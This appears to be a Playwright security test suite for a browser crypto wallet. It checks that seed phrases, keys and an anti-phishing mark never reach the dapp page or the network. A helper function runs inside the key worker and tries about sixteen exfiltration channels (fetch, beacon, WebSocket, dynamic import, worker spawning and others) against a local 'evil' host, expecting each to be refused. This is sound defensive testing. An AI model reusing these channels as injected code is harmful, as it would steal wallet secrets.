import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type BrowserContext, expect, type Page, type Worker } from '@playwright/test'
import { openSettings } from './support/accountView.ts'
import { test } from './support/connected.ts'
import {
  approve,
  connectWallet,
  enterPassword,
  fund,
  getWallet,
  openDapp,
  openHomeSettings,
  request,
  viewPhrase,
  waitForWalletWindow,
} from './support/dapp.ts'
import { getFrame } from './support/kit.ts'
import { urls } from './support/ports.ts'
import { mountRaw } from './support/rawFrame.ts'
import { deriveSecrets, findSecrets, readContents, recordTraffic } from './support/scan.ts'

test('default: a whole visit violates no policy, shows no field for a secret in the page, and gives it no key, phrase, password or mark (D1, D8)', async ({
  page,
  context,
}) => {
  const { received } = await recordTraffic(context)
  const violations = await recordViolations(context)
  await openDapp(page)
  const { address, phrase } = await connectWallet(page)
  const secrets = deriveSecrets(phrase)
  const seen: [where: string, contents: string][] = []
  const scan = async (where: string, ...pages: Page[]) => {
    for (const target of [page, getFrame(page), ...pages]) seen.push([where, await readContents(target)])
  }
  await scan('connected')
  await fund(address)
  await page.getByRole('button', { name: 'Sign message' }).click()
  await approve(getWallet(page), 'Sign')
  await expect(page.getByRole('status', { name: 'Message result' })).toContainText('Signature valid')
  const sent = request(page, 'eth_sendTransaction', [{ from: address, to: address, value: '0x1' }])
  await approve(getWallet(page), 'Confirm')
  expect(await sent).toMatch(/^0x[0-9a-f]{64}$/)
  await scan('signed and sent')

  const home = await context.newPage()
  await home.goto(urls.frame)
  const mark = await test.step('the wallet’s own page has the personal mark', () => readMark(home))
  expect(await viewPhrase(home)).toEqual(phrase.split(' '))
  // Proves that the search works: this is the only view that shows the phrase.
  expect(findSecrets(await home.content(), secrets)).toContain('phrase')
  await home.getByRole('button', { name: 'Done' }).click()
  await expect(home.getByRole('button', { name: 'Lock', exact: true })).toBeVisible()
  await scan('words put away', home)

  await page.bringToFront()
  await test.step('a page can open no view with a field for a secret (D8)', () => expectViewsRefused(page))
  await test.step('the framed document has no such field, locked or not (D8)', async () => {
    await lockInPage(page)
    await scan('locked', home)
    await getWallet(page).getByRole('button', { name: 'Close', exact: true }).click()
  })

  await test.step('the wallet window shows the personal mark, and the page does not have it', async () => {
    const signed = request(page, 'personal_sign', ['0x6869', address])
    await expect(getWallet(page).getByRole('button', { name: 'Unlock & sign' })).toBeVisible()
    expect(await countSecretFields(page)).toBe(0)
    const window = await waitForWalletWindow(page, () => approve(getWallet(page), 'Unlock & sign'))
    await expect(window.locator('.chrome .mark')).toHaveText(mark)
    await enterPassword(window)
    expect(await signed).toMatch(/^0x/)
    const containsMark = (text: string) => [...mark, 'oriel/mark'].some((part) => text.includes(part))
    expect(containsMark(await readContents(home)), 'the search finds the mark where it is').toBe(true)
    expect(containsMark(await readContents(page))).toBe(false)
    expect(containsMark(await readContents(getFrame(page)))).toBe(false)
    expect(await getFrame(page).evaluate(() => localStorage.getItem('oriel/mark'))).toBe(null)
    expect(received.filter(containsMark)).toEqual([])
  })

  await test.step('the site is disconnected', async () => {
    await home.bringToFront()
    await openHomeSettings(home)
    await home.getByRole('button', { name: /^Connected sites/ }).click()
    await home.getByRole('button', { name: new RegExp(`^${urls.host}`) }).click()
    const revoke = home.getByRole('button', { name: `Disconnect ${urls.host}` })
    const unlock = home.getByRole('button', { name: 'Unlock to disconnect' })
    await expect(revoke.or(unlock)).toBeVisible()
    if (await unlock.isVisible()) {
      await unlock.click()
      await enterPassword(home)
      await openHomeSettings(home)
      await home.getByRole('button', { name: /^Connected sites/ }).click()
      await home.getByRole('button', { name: new RegExp(`^${urls.host}`) }).click()
    }
    await revoke.click()
    await expect(home.getByText('This site is disconnected.')).toBeVisible()
    await scan('revoked', home)
  })

  for (const [where, contents] of seen) expect(findSecrets(contents, secrets), where).toEqual([])
  expect(received.filter((text) => text.includes('penpal')).length).toBeGreaterThan(20)
  expect(received.some((text) => text.includes('oriel-window-ready'))).toBe(true)
  expect(findSecrets(received.join('\n'), secrets)).toEqual([])

  expect(violations).toEqual([])
  // Triggers a violation to prove that the listener works.
  const violating = getFrame(page).evaluate(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'))
  await expect(violating).rejects.toThrow('TrustedHTML')
  await expect.poll(() => violations.join()).toContain('require-trusted-types-for')
})

test('behavior: the key worker reaches no network, and loads no code (D2)', async ({ connected: { page } }) => {
  const hits: string[] = []
  const evil = createServer((incoming, response) => {
    hits.push(incoming.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.setHeader('content-type', 'text/javascript')
    response.end('export const stolen = true')
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  const host = `127.0.0.1:${(evil.address() as AddressInfo).port}`
  try {
    const worker = await getKeyWorker(page)
    const answered: string[] = []
    page.context().on('response', (response) => answered.push(response.url()))
    const outcomes = await worker.evaluate(tryEveryWayOut, { evil: host, own: urls.frame })
    expect(outcomes).toEqual(Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'refused'])))
    expect(Object.keys(outcomes).length).toBeGreaterThanOrEqual(12)
    expect(hits).toEqual([])
    expect(answered.filter((url) => url.includes('stolen'))).toEqual([])
  } finally {
    evil.closeAllConnections()
    evil.close()
  }
})

/** Records policy violations from the console and from the events of every document. */
async function recordViolations(context: BrowserContext): Promise<string[]> {
  const violations: string[] = []
  context.on('console', (message) => {
    if (/violat|content security policy|trusted ?type/i.test(message.text())) violations.push(message.text())
  })
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      console.error(`violation of ${violatedDirective} in ${location.href}: ${blockedURI}`)
    })
  })
  return violations
}

async function readMark(home: Page): Promise<string> {
  const mark = (await home.locator('.chrome .mark').textContent()) ?? ''
  expect([...mark]).toHaveLength(2)
  const drawn = home.locator('.chrome .mark svg')
  for (const at of [0, 1]) await expect(drawn.nth(at).locator('path').first()).toBeAttached()
  const stored = await home.evaluate(() => localStorage.getItem('oriel/mark'))
  expect(JSON.parse(stored ?? '{}')).toMatchObject({ signs: [...mark], isExplained: false })
  await home.getByRole('button', { name: 'Got it' }).click()
  await expect(home.getByText(/a window without it isn’t your wallet/)).toHaveCount(0)
  return mark
}

const secretFields =
  'input[type=password], textarea, [autocomplete*=password], [autocomplete=one-time-code], .words, [autocomplete=cc-number]'

const countSecretFields = (page: Page) => getFrame(page).locator(secretFields).count()

async function expectViewsRefused(page: Page) {
  const raw = await mountRaw(page)
  const windowOnly = [
    'Home',
    'UnlockWallet',
    'CreateWallet',
    'ImportWallet',
    'CantUnlock',
    'ExportPhrase',
    'BackupPhrase',
    'ApproveInWindow',
  ]
  const answers = await raw.evaluate(async (client, views) => {
    await client.start()
    const answers = []
    for (const view of views) answers.push((await client.call('open', { view })).value.error?.code)
    return answers
  }, windowOnly)
  expect(answers).toEqual(windowOnly.map(() => -32602))
  for (const frame of page.frames()) expect(await frame.locator(secretFields.replace('textarea, ', '')).count()).toBe(0)
}

/** Locks the wallet in its settings, and expects that no view on the way has a secret field. */
async function lockInPage(page: Page) {
  const wallet = getWallet(page)
  await openSettings(page)
  await expect(wallet.getByRole('button', { name: /^Lock/ })).toBeVisible()
  expect(await countSecretFields(page)).toBe(0)
  await wallet.getByRole('button', { name: /^Network/ }).click()
  await expect(wallet.getByRole('heading', { name: 'Choose network' })).toBeVisible()
  expect(await countSecretFields(page)).toBe(0)
  await wallet.getByRole('button', { name: 'Back' }).click()
  await wallet.getByRole('button', { name: /^Lock/ }).click()
  await expect(wallet.getByRole('button', { name: /^Unlock/ })).toBeVisible()
  expect(await countSecretFields(page)).toBe(0)
}

async function getKeyWorker(page: Page): Promise<Worker> {
  const find = () => page.workers().find((worker) => worker.url().includes('vault.worker'))
  await expect.poll(() => find()?.url()).toBeTruthy()
  return find() as Worker
}

/** Tries every way to send data out of the worker. Runs in the worker, like injected code. */
async function tryEveryWayOut({ evil, own }: { evil: string; own: string }) {
  const scope = globalThis as unknown as { importScripts?: (url: string) => void }
  const waitForOpen = (target: EventTarget & { close?: () => void }) =>
    new Promise((resolve, reject) => {
      target.addEventListener('open', resolve)
      target.addEventListener('message', resolve)
      target.addEventListener('error', () => reject(new Error('refused')))
    })
  const attempts: Record<string, () => unknown> = {
    'fetch elsewhere': () => fetch(`http://${evil}/stolen`),
    'fetch elsewhere, blind': () => fetch(`http://${evil}/stolen`, { mode: 'no-cors' }),
    'fetch at home': () => fetch(`${own}/stolen`),
    'fetch data': () => fetch('data:text/plain,stolen'),
    beacon: () => (navigator as Navigator).sendBeacon(`http://${evil}/stolen`, 'x'),
    request: () => {
      const request = new XMLHttpRequest()
      request.open('GET', `http://${evil}/stolen`, false)
      request.send()
    },
    socket: () => waitForOpen(new WebSocket(`ws://${evil}/stolen`)),
    'event source': () => waitForOpen(new EventSource(`http://${evil}/stolen`)),
    importScripts: () => scope.importScripts?.(`http://${evil}/stolen`),
    'import elsewhere': () => import(/* @vite-ignore */ `http://${evil}/stolen`),
    'import of data': () => import(/* @vite-ignore */ `data:text/javascript,export default ${1}`),
    'import of a blob': () =>
      import(/* @vite-ignore */ URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
    'another worker': () => waitForOpen(new Worker(`http://${evil}/stolen`)),
    'worker of a blob': () =>
      waitForOpen(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))),
    cache: async () => (await caches.open('stolen')).add(`${own}/stolen`),
    eval: () => new Function('return 1')(),
  }
  const outcomes: Record<string, string> = {}
  for (const [name, go] of Object.entries(attempts)) {
    try {
      await go()
      outcomes[name] = 'went through'
    } catch {
      outcomes[name] = 'refused'
    }
  }
  return outcomes
}
